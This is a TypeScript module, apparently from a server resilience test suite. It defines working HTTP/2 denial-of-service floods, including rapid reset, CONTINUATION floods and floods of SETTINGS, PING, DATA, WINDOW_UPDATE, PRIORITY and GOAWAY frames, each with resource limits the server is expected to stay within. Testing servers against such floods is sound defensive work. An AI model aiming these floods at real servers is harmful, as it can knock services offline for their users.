import {
  flag,
  frame,
  frameType,
  headerBlock,
  headers,
  preface,
  requestFields,
  rstStream,
  setting,
  settings,
  uint32,
  windowUpdate,
} from "../../platform/testing/http2-frames.js";
import type { Attack, Bar, Outcome, Target } from "./attack.js";
import { openConnection } from "./raw-connection.js";

// Big enough that writing costs the attacker little, small enough to notice the end soon.
const framesPerWrite = 1000;
// How long the server may take to end a connection after the last frame.
const patienceMs = 5000;

interface Flood {
  readonly frames: number;
  /** What comes before the flood, after the connection preface. */
  readonly opening?: (block: Buffer) => Buffer;
  /** The frames of one turn; `turn` counts from 0. */
  readonly turn: (turn: number, block: Buffer) => Buffer;
  /** Time between writes, for attacks that keep below the rate of a plain flood. */
  readonly pauseMs?: number;
  readonly turnsPerWrite?: number;
  /** The client never reads what the server answers. */
  readonly deaf?: boolean;
}

const pause = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

async function flood(
  target: Target,
  { frames, opening, turn, pauseMs, turnsPerWrite, deaf }: Flood,
): Promise<Outcome> {
  const connection = await openConnection(target);
  if (deaf === true) connection.pause();
  const block = headerBlock(requestFields(target.path, Object.entries(target.headers)));
  await connection.write(Buffer.concat([preface, settings(), opening?.(block) ?? Buffer.alloc(0)]));
  const perWrite = turnsPerWrite ?? framesPerWrite;
  let sent = 0;
  while (sent < frames && !connection.ended) {
    const turns: Buffer[] = [];
    for (let i = 0; i < perWrite; i++) turns.push(turn(sent + i, block));
    if (!(await connection.write(Buffer.concat(turns)))) break;
    sent += perWrite;
    if (pauseMs !== undefined) await pause(pauseMs);
  }
  const ended = await connection.waitForEnd(patienceMs);
  connection.close();
  return { sent, ended, complaints: [] };
}

const streamId = (turn: number): number => 2 * turn + 1;
const whole = flag.endHeaders | flag.endStream;
const bar: Bar = { handlersMax: 1001, cpuMsMax: 300, rssGrowthMax: 64e6 };

const attack = (promise: string, name: string, options: Flood): Attack => ({
  promise,
  name,
  bar,
  run: (target) => flood(target, options),
});

/** Floods of one connection, each of legal frames that cost the server more than the client. */
export const floods: readonly Attack[] = [
  attack("S1", "rapid reset", {
    frames: 100_000,
    turn: (turn, block) =>
      Buffer.concat([headers(streamId(turn), block, whole), rstStream(streamId(turn), 8)]),
  }),
  attack("S1", "rapid reset without an error code", {
    frames: 100_000,
    turn: (turn, block) => Buffer.concat([headers(streamId(turn), block), rstStream(streamId(turn), 0)]),
  }),
  attack("S1", "reset once the handler runs", {
    frames: 20_000,
    turnsPerWrite: 50,
    pauseMs: 5,
    // Each write opens 50 streams and resets those of the write before.
    turn: (turn, block) => {
      const open = headers(streamId(turn), block);
      return turn < 50 ? open : Buffer.concat([rstStream(streamId(turn - 50), 8), open]);
    },
  }),
  attack("S2", "CONTINUATION, empty", {
    frames: 100_000,
    opening: (block) => headers(1, block, flag.endStream),
    turn: () => frame(frameType.continuation, 0, 1),
  }),
  attack("S2", "CONTINUATION, 1 KiB of fields each", {
    frames: 20_000,
    opening: (block) => headers(1, block, flag.endStream),
    turn: () => frame(frameType.continuation, 0, 1, headerBlock([["x", "y".repeat(1000)]])),
  }),
  attack("S3", "SETTINGS", {
    frames: 300_000,
    turn: () => settings([setting.initialWindowSize, 65_535]),
  }),
  attack("S3", "SETTINGS acknowledgements", {
    frames: 300_000,
    turn: () => frame(frameType.settings, flag.ack, 0),
  }),
  attack("S3", "PING", { frames: 300_000, turn: () => frame(frameType.ping, 0, 0, Buffer.alloc(8)) }),
  attack("S3", "PING by a client that does not read", {
    frames: 300_000,
    deaf: true,
    turn: () => frame(frameType.ping, 0, 0, Buffer.alloc(8)),
  }),
  attack("S3", "PING acknowledgements", {
    frames: 300_000,
    turn: () => frame(frameType.ping, flag.ack, 0, Buffer.alloc(8)),
  }),
  attack("S3", "empty DATA", {
    frames: 300_000,
    opening: (block) => headers(1, block),
    turn: () => frame(frameType.data, 0, 1),
  }),
  attack("S3", "DATA of nothing but padding", {
    frames: 300_000,
    pauseMs: 10,
    opening: (block) => headers(1, block),
    turn: () => frame(frameType.data, flag.padded, 1, Buffer.of(0)),
  }),
  attack("S3", "WINDOW_UPDATE of the connection", { frames: 300_000, turn: () => windowUpdate(0, 1) }),
  attack("S3", "WINDOW_UPDATE of a stream", {
    frames: 300_000,
    pauseMs: 10,
    opening: (block) => headers(1, block),
    turn: () => windowUpdate(1, 1),
  }),
  attack("S3", "PRIORITY", {
    frames: 300_000,
    turn: (turn) =>
      frame(frameType.priority, 0, 1 + 2 * (turn % 1000), Buffer.concat([uint32(0), Buffer.of(turn % 256)])),
  }),
  attack("S3", "frames of an unknown type", {
    frames: 300_000,
    turn: () => frame(0xbb, 0, 0, Buffer.alloc(8)),
  }),
  attack("S3", "GOAWAY", { frames: 300_000, turn: () => frame(frameType.goaway, 0, 0, Buffer.alloc(8)) }),
];
